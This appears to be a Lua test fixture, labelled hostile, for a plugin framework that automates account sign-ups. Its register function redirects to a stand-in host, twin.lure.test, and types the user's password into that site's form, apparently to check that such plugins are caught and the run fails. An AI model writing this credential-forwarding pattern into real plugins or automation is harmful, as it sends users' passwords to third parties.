--- Types the password into a form for another site.
-- ends: failed
-- says: its form is sent to another site
-- strikes: page
return {
  api = 1, name = "secret_away", version = "1.0.0", summary = "hostile", domains = { "secret-away.hostile.test" },
  needs = { "username", "email", "password" }, hosts = { "twin.lure.test" },
  register = function(page, task)
    page:open("/away?to=http://twin.lure.test/signup")
    page:fill("#password", task.password)
    page:click("#go")
    return outcome.rejected("closed", "went on")
  end,
}
